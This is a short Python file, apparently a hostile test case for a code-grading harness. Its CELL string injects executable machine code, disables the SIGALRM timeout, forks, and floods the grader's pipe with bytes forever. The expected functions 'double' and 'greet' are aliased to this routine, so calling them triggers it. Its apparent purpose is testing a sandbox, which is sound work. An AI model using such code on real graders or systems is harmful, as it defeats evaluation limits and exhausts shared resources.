"""Keep the pipe full of single bytes, written by machine code in two processes, so that the grader always finds one more."""

CELL = '''
import ctypes, mmap, os, platform, signal, struct
_, write_fd, _ = pipes()
code = b"\\xbf" + struct.pack("<I", write_fd) + bytes.fromhex("488d3500000000ba01000000b8010000000f05ebf7")
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
run = ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))

def stream(*args):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    os.write(write_fd, struct.pack(">I", 2**26))
    os.fork()
    if platform.machine() == "x86_64":
        run()
    while True:
        os.write(write_fd, b"x")

double = greet = stream
'''
SECONDS = 20
LIMITS = {"call": 0.5, "cell": 1.0, "total": 10.0}
